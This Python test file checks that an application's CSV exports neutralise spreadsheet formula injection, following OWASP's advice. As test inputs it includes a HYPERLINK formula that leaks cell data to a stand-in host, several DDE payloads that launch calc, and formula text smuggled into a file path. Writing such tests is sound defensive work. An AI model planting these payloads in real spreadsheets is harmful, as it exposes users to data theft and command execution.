"""Issue 37, rule 3: no cell of a CSV the app writes is a formula a spreadsheet would run.

OWASP's advice on CSV injection is the oracle: a cell whose text begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is run by Excel, LibreOffice and Google Sheets;
one that begins with an apostrophe is shown as text.  The cells are split here as a
spreadsheet splits them (Python's csv module, and the ``#`` lines at their commas and
semicolons too, since a spreadsheet does not know they are comments).
"""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest

from embedexplorer.core.common.csv_cells import FORMULA_STARTS, csv_cell, csv_comment, original
from embedexplorer.core.sources.resolve import bundled_model_dir

from .helpers import link_files, run_cli

HOSTILE_FAMILIES = {
    '=HYPERLINK("http://example.invalid/?"&A1,"click")': ["dog", "cat"],
    "+cmd|' /C calc'!A0": ["sun", "moon"],
    "@SUM(1+1)*cmd|' /C calc'!A0": ["red", "blue"],
    "-2+3+cmd|' /C calc'!A0": ["one", "two"],
    "'=already marked": ["king", "queen"],
}


def spreadsheet_cells(text: str) -> list[str]:
    """Every cell a spreadsheet makes of the file: comment lines are split at , and ; as well."""
    cells: list[str] = []
    for line in text.splitlines():
        if line.startswith("#"):
            cells += re.split(r"[,;]", line)
        else:
            for row in csv.reader([line]):
                cells += row
    return cells


def runs_as_formula(cell: str) -> bool:
    """OWASP's rule; a cell that is a plain number (-0.25) is a number to a spreadsheet, not a formula."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell.lstrip(' "').startswith(FORMULA_STARTS)


@pytest.mark.parametrize(
    "value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", "''+1", "'plain", "plain", "", "a=b", "-"]
)
def test_the_neutraliser_marks_formulas_and_gives_every_value_back(value: str) -> None:
    cell = csv_cell(value)
    assert not runs_as_formula(cell)
    assert original(cell) == value
    assert (cell == value) == (not value.lstrip("'").startswith(FORMULA_STARTS))


def test_the_points_csv_of_a_hostile_map_has_no_formula_and_reads_back(tmp_path: Path) -> None:
    families = tmp_path / "families.json"
    families.write_text(json.dumps({"families": HOSTILE_FAMILIES}), encoding="utf-8")
    model = tmp_path / "m,=1+1;@SUM(A1),+x"  # the model's path lands in the provenance lines
    bundled = bundled_model_dir()
    link_files(bundled, model, tuple(file.name for file in bundled.iterdir() if file.is_file()))
    target = tmp_path / "points.csv"
    words = "^[-=+@]$|^(dog|cat|sun|moon|red|blue|one|two|king|queen)$"
    result = run_cli(
        "map", "--model", str(model), "--families", str(families), "--words", words, "--csv", str(target), "--json"
    )
    assert result.returncode == 0, result.stderr
    text = target.read_text(encoding="utf-8")
    cells = spreadsheet_cells(text)
    assert not [cell for cell in cells if runs_as_formula(cell)]
    # Every value is still there: tokens and families read back exactly once the apostrophe is taken off.
    rows = list(csv.reader(line for line in text.splitlines() if not line.startswith("#")))
    tokens = {original(row[0]) for row in rows[1:]}
    assert {"+", "-", "=", "@", "dog", "queen"} <= tokens
    assert {original(row[2]) for row in rows[1:]} - {""} == set(HOSTILE_FAMILIES)
    assert "'=" in text and "'+" in text and "'@" in text and "'-" in text  # marked, not dropped
    model_line = next(line for line in text.splitlines() if line.startswith("# model"))
    assert ",'+x" in model_line and ";'@SUM(A1)" in model_line and ",'=1+1" in model_line


def test_a_comment_line_is_made_safe_at_every_separator() -> None:
    line = csv_comment('# model: a, =1,"=2";@3,\t-4,plain')
    parts = re.split(r"[,;]", line)
    assert not [part for part in parts if runs_as_formula(part.strip())]
    assert line == "# model: a,' =1,'\"=2\";'@3,\t'-4,plain"
